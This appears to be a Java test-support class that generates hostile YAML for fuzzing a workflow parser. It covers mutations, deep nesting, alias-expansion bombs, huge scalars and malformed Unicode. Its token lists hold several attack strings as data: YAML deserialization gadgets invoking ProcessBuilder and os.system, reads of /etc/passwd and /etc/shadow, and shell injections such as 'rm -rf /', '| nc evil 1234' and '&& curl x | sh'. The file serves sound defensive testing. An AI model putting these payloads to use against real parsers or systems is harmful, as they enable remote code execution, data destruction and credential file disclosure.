package io.innominatus.parse;

import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Generators of hostile YAML text for the parser fuzz test: mutations of real documents and random
 * structure (deep nesting, anchors and aliases, huge scalars, tags, control characters, unpaired
 * surrogates, path traversal, CEL and {@code ${...}} fragments). Every generator is a pure function of
 * the random source it is given, so a case is reproduced from its seed.
 */
final class HostileYaml {

    private HostileYaml() {}

    /** Fragments that mean something to YAML, to the parsers or to the code behind them. */
    static final List<String> TOKENS = List.of(
            ":", ": ", "- ", "-", "?", "? ", "[", "]", "{", "}", ",", "#", "&a ", "*a", "&b ", "*b", "!!", "!", "|", ">",
            "|-", ">+", "'", "\"", "\\", "%YAML 1.2\n", "%TAG ! tag:evil,2024:\n", "---\n", "...\n", "<<: *a\n", "\t",
            "\n", "\r\n", "\r", " ", "  ", "    ", "~", "null", "true", "no", "0x1F", "0o17", "1e400", "-.inf", ".nan",
            "99999999999999999999999999", "2001-12-14t21:59:43.10-05:00",
            "!!java.lang.ProcessBuilder [[\"touch\", \"/tmp/pwned\"]]", "!!python/object/apply:os.system [\"id\"]",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
            "!custom x", "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!<tag:yaml.org,2002:str> x",
            "${", "}", "${application.name}", "${admin.x.y}", "${steps.a.outputs.b}", "${terraform.out}", "$${x}",
            "${workflow.variables.v}", "${resources.db.password}", "${metadata.product}", "${ nested ${x} }",
            "${env:HOME}", "${env:INNOMINATUS_UNSET_1}", "${env:9bad}", "${env:", "${env:}", "${env:A-B}",
            "../../etc/passwd", "/etc/shadow", "%2e%2e/%2e%2e/x", "..%2f..%2fx", "%252e%252e%252f", "..\\..\\x",
            "./k8s/../../../x", "C:\\Windows", "~/x", "a\u0000b", "file:///etc/passwd",
            "'; rm -rf / #", "$(id)", "`id`", "| nc evil 1234", "&& curl x | sh",
            "size(a) > 0", "a.all(x, a.all(y, true))", "!!!!!!!!true", "((((((((((", "]]]]]]]]", "1 + ",
            "\u0085", "\u2028", "\u2029", "\uFEFF", "\u0001", "\u001B[31m", "\u007F", "\uD800", "\uDFFF", "\uFFFE",
            "\uD83D\uDE00", "\u00E9", "\u202E", "\u200B", "name", "steps", "dependsOn", "type", "config", "if",
            "timeout", "retry", "attempts", "when", "outputs", "spec", "metadata", "kind", "apiVersion", "containers",
            "resources", "workflows", "triggers", "variables", "command", "env", "manifests", "workingDir");

    /** Values that stress the code which reads a scalar. */
    static final List<String> VALUES = List.of(
            "", "''", "\"\"", "null", "~", "0", "-1", "1e400", "9223372036854775808", "0x7fffffffffffffff", "true", "[]",
            "{}", "[a, [b, [c]]]", "{a: {b: {c: d}}}", "\"\\u0000\"", "\"\\uD800\"", "\"\\x01\"", "'${'",
            "\"${application.name\"", "\"${unknown.ref}\"", "\"$${literal}\"", "../../../etc/passwd", "/etc/passwd",
            "\"%2e%2e/%2e%2e/x\"", "./", ".", "..", "\"a; rm -rf /tmp/x\"", "\"$(touch /tmp/pwned)\"", "1h30m",
            "999999999999999999h", "30", "-5s", "0s", "exec", "kubernetes", "Exec", "all_deployments", "deployment",
            "pre-deployment", "on_failure", "\"size(steps) > 0\"", "\"" + "(".repeat(40) + "\"", "[exec, exec]",
            "*a", "&x value", "!!str 5", "!!int x", "!!float y", "!!bool maybe", "!!null z", "!!timestamp bad");

    static String pick(SplittableRandom random, List<String> list) {
        return list.get(random.nextInt(list.size()));
    }

    /** Applies one to five mutations to {@code text}, sometimes splicing in a piece of {@code other}. */
    static String mutate(SplittableRandom random, String text, String other) {
        String result = text;
        int count = 1 + random.nextInt(5);
        for (int i = 0; i < count; i++) {
            result = mutateOnce(random, result, other);
        }
        return result;
    }

    private static String mutateOnce(SplittableRandom random, String text, String other) {
        int length = text.length();
        int at = length == 0 ? 0 : random.nextInt(length + 1);
        switch (random.nextInt(14)) {
            case 0 -> {
                return text.substring(0, at) + pick(random, TOKENS) + text.substring(at);
            }
            case 1 -> {
                int end = Math.min(length, at + 1 + random.nextInt(40));
                return text.substring(0, at) + text.substring(end);
            }
            case 2 -> {
                return lines(random, text, LineEdit.DUPLICATE);
            }
            case 3 -> {
                return lines(random, text, LineEdit.SWAP);
            }
            case 4 -> {
                return lines(random, text, LineEdit.REINDENT);
            }
            case 5 -> {
                return replaceValue(random, text);
            }
            case 6 -> {
                StringBuilder noise = new StringBuilder();
                int n = 1 + random.nextInt(8);
                for (int k = 0; k < n; k++) {
                    noise.append(randomChar(random));
                }
                return text.substring(0, at) + noise + text.substring(at);
            }
            case 7 -> {
                return text.substring(0, at);
            }
            case 8 -> {
                if (other.isEmpty()) {
                    return text;
                }
                int from = random.nextInt(other.length());
                int to = Math.min(other.length(), from + 1 + random.nextInt(400));
                return text.substring(0, at) + other.substring(from, to) + text.substring(at);
            }
            case 9 -> {
                // Anchor a value near the start and refer to it many times further on.
                return "x-anchor: &a " + pick(random, List.of("[1, 2, 3]", "{k: v}", "scalar", "[*b]")) + "\n"
                        + text + "\nx-use: [" + "*a, ".repeat(random.nextInt(30)) + "*a]\n";
            }
            case 10 -> {
                String line = "    ".repeat(random.nextInt(6)) + pick(random, List.of("- ", "", "? ")) + pick(random, TOKENS)
                        + ": " + pick(random, VALUES) + "\n";
                int lineStart = text.lastIndexOf('\n', Math.max(0, at - 1)) + 1;
                return text.substring(0, lineStart) + line + text.substring(lineStart);
            }
            case 11 -> {
                return text.replace(": ", pick(random, List.of(":  ", ":\t", ":", ": &q ", ": !!str ")));
            }
            case 12 -> {
                int end = Math.min(length, at + 1 + random.nextInt(200));
                String piece = text.substring(at, end);
                return text.substring(0, end) + piece.repeat(1 + random.nextInt(4)) + text.substring(end);
            }
            default -> {
                return text.substring(0, at) + "\n" + "  ".repeat(random.nextInt(40)) + pick(random, TOKENS)
                        + text.substring(at);
            }
        }
    }

    private enum LineEdit {
        DUPLICATE,
        SWAP,
        REINDENT
    }

    private static String lines(SplittableRandom random, String text, LineEdit edit) {
        List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
        if (lines.isEmpty()) {
            return text;
        }
        int i = random.nextInt(lines.size());
        switch (edit) {
            case DUPLICATE -> lines.add(i, lines.get(i));
            case SWAP -> {
                int j = random.nextInt(lines.size());
                String a = lines.get(i);
                lines.set(i, lines.get(j));
                lines.set(j, a);
            }
            default -> {
                String line = lines.get(i);
                lines.set(i, random.nextBoolean() ? " ".repeat(1 + random.nextInt(5)) + line
                        : line.replaceFirst("^ {1,4}", random.nextBoolean() ? "" : "\t"));
            }
        }
        return String.join("\n", lines);
    }

    private static String replaceValue(SplittableRandom random, String text) {
        List<Integer> colons = new ArrayList<>();
        for (int i = text.indexOf(": "); i >= 0 && colons.size() < 400; i = text.indexOf(": ", i + 1)) {
            colons.add(i);
        }
        if (colons.isEmpty()) {
            return text;
        }
        int at = colons.get(random.nextInt(colons.size())) + 2;
        int end = text.indexOf('\n', at);
        end = end < 0 ? text.length() : end;
        String value = random.nextInt(10) == 0 ? pick(random, TOKENS) : pick(random, VALUES);
        return text.substring(0, at) + value + text.substring(end);
    }

    static String randomChar(SplittableRandom random) {
        return switch (random.nextInt(6)) {
            case 0 -> String.valueOf((char) random.nextInt(0x20));
            case 1 -> String.valueOf((char) (0xD800 + random.nextInt(0x800)));
            case 2 -> new String(Character.toChars(random.nextBoolean() ? random.nextInt(0xD800)
                    : 0xE000 + random.nextInt(0x110000 - 0xE000)));
            case 3 -> String.valueOf((char) (0x7F + random.nextInt(0x21)));
            case 4 -> pick(random, List.of("\uFFFE", "\uFFFF", "\uFEFF", "\u2028", "\u2029", "\u0085", "\u00A0"));
            default -> String.valueOf((char) (0x20 + random.nextInt(0x5F)));
        };
    }

    /** A random YAML document: nested mappings and sequences in block and flow style, anchors and aliases. */
    static String structure(SplittableRandom random) {
        StringBuilder out = new StringBuilder();
        switch (random.nextInt(8)) {
            case 0 -> deepNesting(random, out);
            case 1 -> laughs(random, out);
            case 2 -> hugeScalar(random, out);
            case 3 -> manyDocuments(random, out);
            default -> {
                Generator generator = new Generator(random);
                generator.block(out, 0, 1 + random.nextInt(7));
            }
        }
        return out.toString();
    }

    private static void deepNesting(SplittableRandom random, StringBuilder out) {
        int depth = 10 + random.nextInt(random.nextBoolean() ? 60 : 3000);
        String open = pick(random, List.of("[", "{a: ", "- ", "{? ", "[{x: "));
        if (open.equals("- ")) {
            for (int i = 0; i < Math.min(depth, 400); i++) {
                out.append("  ".repeat(i)).append("-\n");
            }
            out.append("  ".repeat(Math.min(depth, 400))).append("x\n");
            return;
        }
        out.append("k: ").append(open.repeat(depth)).append("1");
        String close = switch (open) {
            case "[" -> "]";
            case "[{x: " -> "}]";
            default -> "}";
        };
        out.append(close.repeat(random.nextInt(4) == 0 ? random.nextInt(depth + 1) : depth)).append('\n');
    }

    private static void laughs(SplittableRandom random, StringBuilder out) {
        int levels = 2 + random.nextInt(10);
        int width = 2 + random.nextInt(12);
        out.append("l0: &l0 [").append("\"lol\", ".repeat(width)).append("\"lol\"]\n");
        for (int i = 1; i < levels; i++) {
            out.append('l').append(i).append(": &l").append(i).append(" [");
            for (int j = 0; j < width; j++) {
                out.append(j == 0 ? "" : ", ").append("*l").append(i - 1);
            }
            out.append("]\n");
        }
        if (random.nextBoolean()) {
            out.append("self: &s [*s]\n");
        }
        if (random.nextBoolean()) {
            out.append("merge:\n  <<: *l0\n");
        }
    }

    private static void hugeScalar(SplittableRandom random, StringBuilder out) {
        // Mostly below the document limit, sometimes above it; rarely, to keep the run short.
        int size = random.nextInt(100) == 0 ? 1_000_000 + random.nextInt(100_000) : 1_000 + random.nextInt(60_000);
        String style = pick(random, List.of("plain", "double", "single", "literal", "key"));
        String body = String.valueOf((char) ('a' + random.nextInt(26))).repeat(size);
        switch (style) {
            case "double" -> out.append("v: \"").append(body).append("\"\n");
            case "single" -> out.append("v: '").append(body).append("'\n");
            case "literal" -> out.append("v: |\n  ").append(body).append('\n');
            case "key" -> out.append(body).append(": v\n");
            default -> out.append("v: ").append(body).append('\n');
        }
    }

    private static void manyDocuments(SplittableRandom random, StringBuilder out) {
        int n = 1 + random.nextInt(random.nextBoolean() ? 5 : 150);
        for (int i = 0; i < n; i++) {
            out.append("---\n").append(pick(random, List.of("a: 1\n", "x\n", "", "[1]\n", "{}\n", "kind: PlatformWorkflow\n")));
        }
    }

    /** Random block and flow structure. */
    private static final class Generator {
        private final SplittableRandom random;
        private int anchors;

        Generator(SplittableRandom random) {
            this.random = random;
        }

        void block(StringBuilder out, int indent, int depth) {
            int entries = 1 + random.nextInt(6);
            boolean sequence = random.nextInt(3) == 0;
            for (int i = 0; i < entries; i++) {
                out.append("  ".repeat(indent));
                if (sequence) {
                    out.append("- ");
                } else {
                    out.append(key()).append(':');
                }
                if (depth > 0 && random.nextInt(3) > 0) {
                    if (random.nextInt(4) == 0) {
                        out.append(sequence ? "" : " ").append(flow(depth - 1)).append('\n');
                    } else {
                        out.append(anchor()).append('\n');
                        block(out, indent + (sequence ? 1 : 2), depth - 1);
                    }
                } else {
                    out.append(' ').append(scalar()).append('\n');
                }
            }
        }

        private String anchor() {
            if (random.nextInt(5) == 0) {
                return " &n" + (anchors++);
            }
            return "";
        }

        private String flow(int depth) {
            if (depth <= 0 || random.nextInt(3) == 0) {
                return scalar();
            }
            StringBuilder out = new StringBuilder();
            boolean map = random.nextBoolean();
            out.append(map ? '{' : '[');
            int n = random.nextInt(5);
            for (int i = 0; i < n; i++) {
                if (i > 0) {
                    out.append(", ");
                }
                if (map) {
                    out.append(key()).append(": ");
                }
                out.append(flow(depth - 1));
            }
            return out.append(map ? '}' : ']').toString();
        }

        private String key() {
            return switch (random.nextInt(8)) {
                case 0 -> pick(random, TOKENS).replace("\n", "");
                case 1 -> "\"" + randomChar(random) + "k\"";
                case 2 -> "? [a, b]";
                case 3 -> pick(random, List.of("name", "type", "steps", "config", "metadata", "spec", "kind", "apiVersion"));
                default -> "k" + random.nextInt(50);
            };
        }

        private String scalar() {
            if (anchors > 0 && random.nextInt(6) == 0) {
                return "*n" + random.nextInt(anchors + 1);
            }
            return switch (random.nextInt(5)) {
                case 0 -> pick(random, TOKENS).replace("\n", " ");
                case 1 -> "\"" + randomChar(random) + randomChar(random) + "\"";
                default -> pick(random, VALUES);
            };
        }
    }

    /** A workflow-shaped document with random steps, so that the deeper checks run. */
    static String workflow(SplittableRandom random) {
        StringBuilder out = new StringBuilder();
        out.append("apiVersion: workflow.dev/v1\nkind: ")
                .append(pick(random, List.of("PlatformWorkflow", "ProductWorkflow", "WorkflowPolicies", "Platform")))
                .append("\nmetadata:\n  name: ").append(pick(random, List.of("w", "fuzz-wf", "Bad_Name", "a".repeat(70))))
                .append("\n  phase: ").append(pick(random, List.of("deployment", "pre-deployment", "later")))
                .append("\n  owner: team\n  product: ecommerce\nspec:\n  triggers: [")
                .append(pick(random, List.of("all_deployments", "manual", "sometimes", "product_deployment, manual")))
                .append("]\n");
        if (random.nextBoolean()) {
            out.append("  variables:\n    v: ").append(pick(random, VALUES)).append('\n');
        }
        out.append("  steps:\n");
        int steps = 1 + random.nextInt(random.nextInt(10) == 0 ? 1200 : 12);
        for (int i = 0; i < steps; i++) {
            out.append("    - name: s").append(random.nextInt(steps + 2)).append('\n');
            out.append("      type: ").append(pick(random, List.of("exec", "kubernetes", "terraform", "unknown-type",
                    "validation", "policy"))).append('\n');
            if (random.nextBoolean()) {
                out.append("      dependsOn: [s").append(random.nextInt(steps + 2)).append(", s").append(random.nextInt(steps + 2))
                        .append("]\n");
            }
            if (random.nextInt(3) == 0) {
                out.append("      if: \"").append(cel(random)).append("\"\n");
            }
            if (random.nextInt(3) == 0) {
                out.append("      timeout: ").append(pick(random, List.of("30s", "1h30m", "0s", "-1s", "forever", "999999999999h")))
                        .append('\n');
            }
            if (random.nextInt(4) == 0) {
                out.append("      retry: {attempts: ").append(pick(random, List.of("3", "0", "1000", "x"))).append("}\n");
            }
            out.append("      config:\n        command: [\"").append(pick(random, List.of("echo", "./run.sh", "../x", "sub/../../x")))
                    .append("\", \"").append(pick(random, TOKENS).replace("\"", "").replace("\\", "").replace("\n", ""))
                    .append("\"]\n");
            out.append("        ").append(pick(random, List.of("manifests", "workingDir", "playbook", "inventory",
                    "migrationPath", "outputFile", "other"))).append(": \"")
                    .append(pick(random, List.of("./k8s", "../../etc", "/etc", "%2e%2e/x", "filesystem:../x", "a/../../b",
                            "localhost,", "${steps.s1.outputs.x}", "${terraform.y}", "${admin.dnsDomain}")))
                    .append("\"\n");
        }
        return out.toString();
    }

    private static String cel(SplittableRandom random) {
        StringBuilder out = new StringBuilder();
        int parts = 1 + random.nextInt(6);
        for (int i = 0; i < parts; i++) {
            if (i > 0) {
                out.append(pick(random, List.of(" && ", " || ", " + ", " == ", " ? 1 : ", ".", "[0]", ", ")));
            }
            out.append(pick(random, List.of("application.name", "environment.name == 'production'", "size(steps) > 0",
                    "steps.a.outputs.b", "metadata.x.all(k, k != '')", "(", ")", "[1,2,3].exists(x, x > 2)", "!true",
                    "'str'", "1.5", "unknownVar", "has(metadata.x)", "int('7')", "'a'.matches('(a+)+$')",
                    "[1,2].map(x, [1,2].map(y, x*y))", "{'a': 1}['a']", "'\\\\u0041'")));
        }
        return out.toString();
    }
}
